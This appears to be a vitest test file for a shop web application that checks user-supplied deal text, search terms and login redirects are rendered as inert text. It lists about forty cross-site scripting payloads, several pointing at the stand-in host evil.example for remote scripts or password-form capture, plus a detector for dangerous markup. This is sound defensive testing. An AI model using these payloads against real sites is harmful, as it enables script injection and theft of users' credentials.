/** Escaping of user content in rendered pages. */
import { Window } from 'happy-dom';
import { expect, test } from 'vitest';
import { createShop } from '#server/app.ts';
import { seedCategories } from '#server/seed.ts';
import { startShop } from '#test/client.ts';
import { newDeal } from '#test/shoppers.ts';

const shop = await startShop({ makeApp: createShop, config: { rateLimitScale: 100_000 } });
await seedCategories(shop.db);

const RUN = 'alert(1)';
const payloads = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</SCRIPT ><script src=//evil.example/x.js></script>`,
  `<!--<script>${RUN}-->`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `\` onload=${RUN} \``,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<form action="https://evil.example/"><input name=password>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<template><script>${RUN}</script></template>`,
  `<x contenteditable onblur=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\u2028\u2029</script>`,
  `＜script＞${RUN}＜/script＞`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

/** The inline script that every page has. */
const EARLY = /<script>.*?<\/script>/s.exec((await shop.app.inject('/terms-of-service')).body)?.[0];

const OF_OTHERS =
  'iframe, object, embed, base, meta[http-equiv], link[rel=stylesheet], template, math, [srcdoc], [style]';
const DIRECTIONS = /^https:\/\/www\.google\.com\/maps\/dir\/\?api=1&destination=[\w%.!~*'()-]+$/;
const RUNS = /^\s*(javascript|vbscript|data:(text|application))/i;

/** Elements and attributes that would run code, load or link foreign content. */
function dangersIn(html: string): string[] {
  const { document } = new Window();
  document.write(html);
  const dangers = [...document.querySelectorAll(OF_OTHERS)].map((element) => element.outerHTML);
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of [...element.attributes].map((it) => ({ name: it.name, value: it.value ?? '' }))) {
      const isAddress = ['href', 'src', 'action', 'formaction'].includes(name);
      const isKnown = value.startsWith('http://localhost') || DIRECTIONS.test(value);
      const leaves = name !== 'src' && isAddress && URL.canParse(value) && !isKnown;
      if (/^on/i.test(name) || (isAddress && RUNS.test(value)) || leaves) dangers.push(`${name}=${value}`);
    }
    const isData = /^application\/(ld\+)?json$/.test(element.getAttribute('type') ?? '');
    if (element.tagName === 'SCRIPT' && isData) JSON.parse(element.textContent);
    else if (element.tagName !== 'SCRIPT' || element.getAttribute('src')?.startsWith('/assets/')) continue;
    else if (element.outerHTML !== EARLY) dangers.push(element.outerHTML);
  }
  return dangers;
}

const newDealOf = ([title = '', titleEn, businessName, ...more]: string[], description: string) =>
  newDeal(shop.db, {
    ...{ title, titleEn, businessName: businessName ?? title, description, descriptionEn: description, city: 'kruje' },
    ...{ businessInfo: more[0], businessInfoEn: more[1], hours: more[2], address: more[3] },
  });

/** Several payloads per page: each page is parsed as a document, which takes long. */
const SIZE = 7;
const groups = Array.from({ length: Math.ceil(payloads.length / SIZE) }, (_, n) =>
  payloads.slice(n * SIZE, (n + 1) * SIZE),
);

test.each(groups)('markup in a deal, a search or an address, on every page, is text: %s', async (...group) => {
  const id = await newDealOf(group, group.join(' '));
  const encoded = encodeURIComponent(group.join(' '));
  const urls = [`/deal/${id}`, `/deal/${id}?lang=en`, '/?city=kruje', `/?search=${encoded}`, `/login?next=${encoded}`];
  for (const url of urls) {
    shop.clock.move(600_000);
    const { body, headers, statusCode } = await shop.app.inject({ url });
    expect(statusCode, url).toBeLessThan(500);
    if (headers.location) expect(headers.location).toMatch(/^\/(?!\/)/);
    if (String(headers['content-type']).includes('html')) expect(dangersIn(body), url).toEqual([]);
  }
  await shop.pool.query('update deals set is_hidden = true where id = $1', [id]);
});
